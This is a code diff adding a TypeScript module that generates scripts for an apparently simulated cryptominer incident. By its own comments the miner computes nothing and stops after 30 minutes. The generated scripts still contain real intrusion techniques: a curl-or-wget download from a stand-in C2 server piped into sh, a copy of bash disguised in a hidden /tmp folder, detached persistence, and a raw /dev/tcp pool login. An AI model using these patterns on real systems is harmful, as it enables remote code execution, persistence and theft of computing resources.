@@ -1,0 +1,113 @@
+import { C2, STARTS_FILE } from '../places.ts';
+import { REFUSAL } from './refusal.ts';
+
+/** Names that a scenario chooses for its miner. */
+export interface MinerNames {
+  /** Folder of the program, e.g. `/tmp/.X19-unix`. */
+  readonly folder: string;
+  /** A copy of bash under a miner's name. */
+  readonly program: string;
+  /** What it runs. */
+  readonly script: string;
+  /** Starts it again; called by every persistence entry. */
+  readonly starter: string;
+  /** What the pretend C2 server hands out. */
+  readonly download: string;
+  readonly poolAddress: string;
+  readonly poolPort: number;
+  readonly wallet: string;
+}
+
+export function minerArguments(names: MinerNames): string[] {
+  return [
+    `${names.folder}/${names.script}`,
+    ...['-o', `stratum+tcp://${names.poolAddress}:${names.poolPort}`, '-u', names.wallet, '-p', 'x'],
+    ...['-a', 'rx/0', '-k', '--donate-level', '1', '-B'],
+  ];
+}
+
+/**
+ * The pretend miner, for bash 4.2 and later: one core for a little more than half of the time, one connection to
+ * the pool, a line of stratum-shaped JSON now and then, and an end after 30 minutes. It works nothing out.
+ */
+export const MINER_SCRIPT = String.raw`${REFUSAL}
+trap '' PIPE HUP
+LC_ALL=C
+while [ $# -gt 0 ]; do
+  case $1 in
+    -o) pool=${'$'}{2#stratum+tcp://}; shift ;;
+    -u) wallet=$2; shift ;;
+  esac
+  shift
+done
+printf '%(%s)T %s %s\n' -1 "$$" "${'$'}{STARTED_BY-unknown}" >> ${STARTS_FILE}
+ends=$((SECONDS + 1800)) x=1 said=0 tries=0 connection=
+exec {idle}<> <(:)
+
+dial() {
+  tries=$SECONDS
+  { exec {connection}<> "/dev/tcp/${'$'}{pool%:*}/${'$'}{pool##*:}"; } 2> /dev/null || { connection=; return; }
+  printf '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"%s","pass":"x","agent":"XMRig/6.21.0 (drill)","algo":["rx/0"]}}\n' "$wallet" >&"$connection"
+  said=$SECONDS
+}
+
+burn() {
+  local i
+  if [ -z "${'$'}{EPOCHREALTIME-}" ]; then
+    for ((i = 0; i < 15000; i++)); do ((x = (x * 1103515245 + 12345) & 2147483647)); done
+    return
+  fi
+  local from=${'$'}{EPOCHREALTIME/[.,]/}
+  while ((${'$'}{EPOCHREALTIME/[.,]/} - from < 55000)); do
+    for ((i = 0; i < 200; i++)); do ((x = (x * 1103515245 + 12345) & 2147483647)); done
+  done
+}
+
+dial
+while ((SECONDS < ends)); do
+  burn
+  if [ -n "$connection" ]; then
+    IFS= read -r -t 0.045 -u "$connection" line
+    status=$?
+    if ((status != 0 && status <= 128)); then
+      exec {connection}>&-
+      connection=
+    elif ((SECONDS - said >= 15)); then
+      printf '{"id":2,"jsonrpc":"2.0","method":"keepalived","params":{"id":"drill"}}\n' >&"$connection"
+      said=$SECONDS
+    fi
+  else
+    read -r -t 0.045 -u "$idle" line
+    ((SECONDS - tries < 5)) || dial
+  fi
+done
+`;
+
+/** What every persistence entry calls: `starter BY`. The lock is held for as long as the miner lives. */
+export function starterScript(names: MinerNames): string {
+  return String.raw`#!/bin/sh
+${REFUSAL}
+d=${names.folder}
+if [ ! -x $d/${names.program} ] || [ ! -r $d/${names.script} ]; then
+  { curl -fsSL -m 20 http://${C2.address}/${names.download} || wget -q -T 20 -O- http://${C2.address}/${names.download}; } 2> /dev/null | sh -s "${'$'}{1-starter}"
+  exit
+fi
+exec 9>> $d/.lock
+flock -n 9 || exit 0
+STARTED_BY=${'$'}{1-starter} setsid nice -n 19 $d/${names.program} ${minerArguments(names).join(' ')} < /dev/null > /dev/null 2>&1 &
+`;
+}
+
+/** What the pretend C2 server serves: puts the miner back and starts it. */
+export function installerScript(names: MinerNames): string {
+  return String.raw`${REFUSAL}
+d=${names.folder}
+mkdir -p $d 2> /dev/null && chmod 777 $d 2> /dev/null
+[ -x $d/${names.program} ] || cp /bin/bash $d/${names.program}
+cat > $d/${names.script} << 'END_OF_MINER'
+${MINER_SCRIPT}END_OF_MINER
+exec 9>> $d/.lock
+flock -n 9 || exit 0
+STARTED_BY=${'$'}{1-download} setsid nice -n 19 $d/${names.program} ${minerArguments(names).join(' ')} < /dev/null > /dev/null 2>&1 &
+`;
+}
